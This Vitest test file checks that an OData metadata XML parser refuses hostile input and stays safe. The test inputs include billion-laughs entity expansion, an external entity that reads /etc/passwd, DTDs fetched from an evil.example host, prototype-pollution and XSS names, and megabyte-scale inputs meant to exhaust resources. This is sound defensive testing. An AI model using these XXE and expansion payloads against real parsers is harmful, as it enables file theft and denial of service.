import { describe, expect, it } from 'vitest';
import { readMetadata } from '../../../src/schema/index.ts';
import { v4 } from './declared.ts';

/** Enough for what grows by the square to take minutes. */
const many = 200_000;
const type = (name: string, within = '') => `<EntityType Name="${name}">${within}</EntityType>`;
const codes = (text: string) => [...new Set(readMetadata(text).problems.map(({ code }) => code))];
const typesOf = (text: string) => [...readMetadata(text).service.types.keys()];

describe('document type declarations and entities', () => {
  const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${[...Array(9).keys()].map((n) => `<!ENTITY lol${n + 1} "${`&lol${n || ''};`.repeat(10)}">`).join('')}]>`;

  it.each([
    ['a billion laughs', laughs, '&lol9;'],
    ['a file', '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>', '&file;'],
    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % all SYSTEM "http://evil.example/x.dtd"> %all;]>', '&all;'],
    ['a declaration of elsewhere', '<!DOCTYPE x PUBLIC "-//X//Y" "http://evil.example/x.dtd">', '&thing;'],
  ])('%s: refused, and nothing stands for anything', (_what, declaration, entity) => {
    const text = `${declaration}${v4(type(`A${entity}`))}`;
    expect(typesOf(text)).toEqual([`N.A${entity}`]);
    expect(codes(text)).toEqual(['forbidden']);
  });

  it('reads the rest of a document with a declaration', () => {
    expect(typesOf(`<?xml version="1.0"?>\n<!DOCTYPE edmx:Edmx>${v4(type('A'))}`)).toEqual(['N.A']);
  });
});

describe('names', () => {
  const names = [
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'a b',
    '<img src=x onerror=alert(1)>',
    '‮evil',
    '💥',
    'x'.repeat(10_000),
    "'",
    '/',
    '.',
  ];
  const escaped = (name: string) => name.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

  it('are data, whatever they are', () => {
    const text = v4(names.map((name) => type(escaped(name), `<Property Name="${escaped(name)}" Type="Edm.String"/>`)).join(''));
    const { service } = readMetadata(text);
    expect([...service.types.keys()]).toEqual(names.map((name) => `N.${name}`));
    expect([...service.types.values()].map(({ properties }) => [...properties.keys()])).toEqual(names.map((name) => [name]));
    expect({}).not.toHaveProperty('evil');
  });

  it.each(['EntityType', 'ComplexType', 'EnumType', 'EntityContainer', 'Term', 'Association'])(
    'of prototypes are no elements of %s',
    (kind) => {
      const inside = names.slice(0, 4).map((name) => `<${name} Name="x"/>`);
      const { problems } = readMetadata(v4(`${type('T')}<${kind} Name="A" Type="Edm.String">${inside.join('')}</${kind}>`));
      expect(problems.filter(({ message }) => message.includes('has no element'))).toHaveLength(4);
    },
  );

  it.each(['__proto__', 'constructor', 'toString'])('of prototypes are no attributes and no expressions: %s', (name) => {
    const { problems } = readMetadata(v4(`${type('T')}<Annotation Term="C.D" ${name}="x"><${name}/></Annotation>`));
    expect(problems.map(({ code }) => code)).toEqual(['invalid', 'invalid']);
  });
});

/** Each is a megabyte or more of one thing that a parser can be slow at, or need much memory for. */
describe('much of something', () => {
  it.each<[what: string, text: () => string, types: string[]]>([
    ['white space before', () => `${' '.repeat(20 * many)}${v4(type('A'))}`, ['N.A']],
    ['white space within', () => v4(`${type('A')}${'\n'.repeat(10 * many)}`), ['N.A']],
    ['comments', () => `${'<!---->'.repeat(many)}${v4(`${'<!-- - -->'.repeat(many)}${type('A')}`)}`, ['N.A']],
    ['one comment', () => v4(`<!--${' - '.repeat(5 * many)}-->${type('A')}`), ['N.A']],
    ['a comment that never ends', () => v4(`${type('A')}<!--${'-'.repeat(many)}`), ['N.A']],
    ['comments that never end', () => v4(`${type('A')}${'<!--'.repeat(many)}`), ['N.A']],
    ['sections that never end', () => v4(`${type('A')}${'<![CDATA['.repeat(many)}`), ['N.A']],
    ['document type declarations that never end', () => v4(`${type('A')}${'<!DOCTYPE ['.repeat(many)}`), ['N.A']],
    ['text', () => v4(`${type('A')}${'x'.repeat(20 * many)}`), ['N.A']],
    ['a value', () => v4(type('A', `<Property Name="p" Type="Edm.String" DefaultValue="${'x'.repeat(20 * many)}"/>`)), ['N.A']],
    ['bare ampersands', () => v4(`${type('A')}${'& '.repeat(many)}`), ['N.A']],
    ['entities', () => v4(`${type('A')}${'&x;'.repeat(many)}`), ['N.A']],
    ['characters that are none', () => v4(`${type('A')}${'\u0001'.repeat(many)}`), ['N.A']],
    ['less-thans', () => v4(`${type('A')}${'< '.repeat(many)}${type('B')}`), ['N.A', 'N.B']],
    ['closing tags', () => v4(`${type('A')}${'</x>'.repeat(many)}${type('B')}`), ['N.A', 'N.B']],
    ['elements that there are not', () => v4(`${type('A')}${'<x/>'.repeat(many)}${type('B')}`), ['N.A', 'N.B']],
    ['depth', () => v4(`${type('A')}${'<x>'.repeat(2 * many)}`), ['N.A']],
    ['depth of expressions', () => v4(`${type('A')}<Annotation Term="C.D">${'<Collection>'.repeat(many)}`), ['N.A']],
    ['attributes', () => v4(`${type('A')}<EntityType Name="B" ${[...Array(many / 2).keys()].map((n) => `a${n}=""`).join(' ')}/>`), ['N.A']],
    ['quotes', () => v4(`${type('A')}<EntityType Name="B" ${'"'.repeat(many)}/>`), ['N.A', 'N.B']],
    ['roots', () => `<Schema Namespace="N">${type('A')}</Schema>`.repeat(many / 50), ['N.A']],
    ['a document type declaration', () => `<!DOCTYPE x [${'<!ENTITY a "b">'.repeat(many / 2)}]>${v4(type('A'))}`, ['N.A']],
    ['a JSON string', () => JSON.stringify({ d: v4(`${type('A')}${'\n"'.repeat(many)}<x/>`) }), ['N.A']],
    ['backslashes', () => `"<edmx:Edmx>${'\\'.repeat(2 * many)}`, []],
    ['a web page', () => `<html>${'<input <title '.repeat(many)}`, []],
    ['zeros', () => '\0'.repeat(5 * many), []],
  ])('%s', { timeout: 60_000 }, (_what, text, types) => {
    const { service, problems } = readMetadata(text());
    expect([...service.types.keys()]).toEqual(types);
    expect(problems.length).toBeLessThanOrEqual(1002);
  });

  it.each<[what: string, text: string, message: string]>([
    ['depth', v4('<Annotation Term="a.b">'.repeat(1000)), 'Elements are nested more than 200 deep: the rest of the document is not read.'],
    [
      'attributes',
      v4(`<x ${[...Array(1000).keys()].map((n) => `a${n}=""`).join(' ')}/>`),
      'An element has more than 500 attributes: the rest of the document is not read.',
    ],
  ])('%s is where reading stops', (_what, text, message) => {
    expect(readMetadata(text).problems).toMatchObject([{ code: 'forbidden', message }]);
  });
});
